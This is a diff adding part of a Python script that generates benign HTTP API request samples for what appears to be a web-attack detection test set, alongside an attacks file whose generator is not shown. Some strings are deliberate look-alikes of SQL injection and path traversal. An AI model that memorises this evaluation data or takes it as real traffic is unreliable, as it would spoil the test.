+         "¿Dónde está la estación? Necesito un billete de ida y vuelta.", "Größe: 42, Farbe: Grün — Lieferung nächste Woche",
+         "这个产品很好，我会再买的！", "مرحبا، أريد تغيير عنوان الشحن", "שלום, ההזמנה שלי לא הגיעה",
+         "Ça coûte 12,50 € — c'est l'été !", "Καλημέρα, το δέμα έφτασε σπασμένο.", "नमस्ते, मेरा ऑर्डर कहाँ है?",
+         "안녕하세요, 환불 요청합니다.", "Emoji test 🎉🚀 — done ✅"]
+TEXT = ["Please deliver after 5pm; leave at the back door.", "Can't log in -- it says my password is wrong?",
+        "Ordered 2x blue, got 1x red & 1x blue. Please fix!", "Meeting at 10:30 (room 4B) / bring laptops",
+        "Rating: 5/5 -- would buy again :)", "50% off until Friday! Use code SPRING-24.",
+        "Select the size you want from the menu, then add to cart.", "Drop the package at the front desk, or at the table by the door.",
+        "Is 1=1 always true? Asking for my maths homework.", "Union members get 10% off; select 'member' at checkout.",
+        "Path: Settings > Account > Delete account", "I'll be at 221B Baker Street, London NW1 6XE.",
+        "C:\\Users\\alice\\Documents\\report.docx won't open", "Use ../ to go up a directory in the docs link",
+        "Price went from $10 to $12 -- why?", "Order #A-1029; ref: INV/2024/0042", "user@example.com; bob@example.org",
+        "He said \"it's fine\" -- but it isn't.", "Cats & dogs | pets | supplies", "Call me at +1 (555) 010-0199 ext. 4"]
+
+
+def _b64_image() -> str:
+    raw = bytes(rng.randrange(256) for _ in range(rng.randrange(600, 3000)))
+    return "data:image/png;base64," + base64.b64encode(raw).decode()
+
+
+def benign() -> list[dict]:
+    out: list[dict] = []
+
+    def add(kind: str, req: dict) -> None:
+        out.append({"id": f"benign-{kind}-{len(out):04d}", "category": "benign", "kind": kind,
+                    "source": "tuning: written for realistic JSON APIs", "request": req})
+
+    def post(body: dict, path: str = "/api/items", method: str = "POST") -> dict:
+        return {"method": method, "path": path, "query": "",
+                "headers": {"user-agent": _ua(), "content-type": "application/json"},
+                "body": json.dumps(body, ensure_ascii=rng.random() < 0.5)}
+
+    for n in NAMES:
+        add("names", post({"first_name": n.split(" ")[0], "last_name": n, "email": "x@example.com"}, "/api/customers"))
+        add("names", {"method": "GET", "path": "/api/customers", "query": f"name={quote(n)}",
+                      "headers": {"user-agent": _ua()}, "body": None})
+    for c in CODE_REVIEW:
+        add("code_review", post({"pull_request": 1187, "path": "src/app/db.py", "line": 42, "comment": c}, "/api/reviews"))
+        add("code_review", post({"body": c, "resolved": False}, "/api/comments"))
+    for u in URLS:
+        add("urls", post({"title": "Link", "url": u, "note": f"see {u} for details"}, "/api/bookmarks"))
+        add("urls", {"method": "GET", "path": "/api/redirect", "query": f"next={quote(u)}",
+                     "headers": {"user-agent": _ua(), "referer": "https://app.example.com/home"}, "body": None})
+    for h in RICH_TEXT:
+        add("rich_text", post({"title": "Post", "body_html": h, "draft": True}, "/api/posts"))
+    for _ in range(20):
+        add("base64_images", post({"filename": "avatar.png", "image": _b64_image()}, "/api/uploads"))
+    for m in MULTI:
+        add("multilingual", post({"message": m, "lang": "auto"}, "/api/messages"))
+        add("multilingual", {"method": "GET", "path": "/api/search", "query": "q=" + quote(m),
+                             "headers": {"user-agent": _ua(), "accept-language": "fr-CH, fr;q=0.9, en;q=0.8"}, "body": None})
+    for t in TEXT:
+        add("free_text", post({"order_id": 1029, "note": t}, "/api/orders/1029/notes"))
+        add("free_text", {"method": "POST", "path": "/api/feedback", "query": "",
+                          "headers": {"user-agent": _ua(), "content-type": "application/x-www-form-urlencoded"},
+                          "body": "rating=4&text=" + quote(t)})
+    for i, text in enumerate(SECOND_BENIGN):
+        field = ("comment", "body", "note", "description")[i % 4]
+        add("second_batch", post({field: text, "id": i}, "/api/comments"))
+    for i in range(40):
+        order = {"customer": {"id": f"c_{i:05d}", "name": rng.choice(NAMES)},
+                 "lines": [{"sku": f"SKU-{rng.randrange(1000, 9999)}", "qty": rng.randrange(1, 5),
+                            "price": round(rng.uniform(1, 200), 2)} for _ in range(rng.randrange(1, 6))],
+                 "shipping": {"street": "12 Rue de l'Église", "city": "Lyon", "zip": "69002"},
+                 "coupon": rng.choice([None, "WELCOME10", "SPRING-24"]), "gift": rng.random() < 0.2}
+        add("api_json", post(order, "/api/orders"))
+        add("api_query", {"method": "GET", "path": f"/api/orders/{i}",
+                          "query": rng.choice(["", "include=lines,customer", "page=2&per_page=50&sort=-created_at",
+                                               "filter[status]=shipped&filter[from]=2024-01-01", "fields=id,total"]),
+                          "headers": {"user-agent": _ua(), "authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig",
+                                      "cookie": "session=9f8a7b6c; theme=dark; lang=en-GB"}, "body": None})
+    return out
+
+
+def main() -> None:
+    for name, items in (("attacks.jsonl", attacks()), ("benign.jsonl", benign())):
+        with (HERE / name).open("w") as fh:
+            for item in items:
+                fh.write(json.dumps(item, ensure_ascii=False) + "\n")
+        print(name, len(items))
+
+
+if __name__ == "__main__":
+    main()
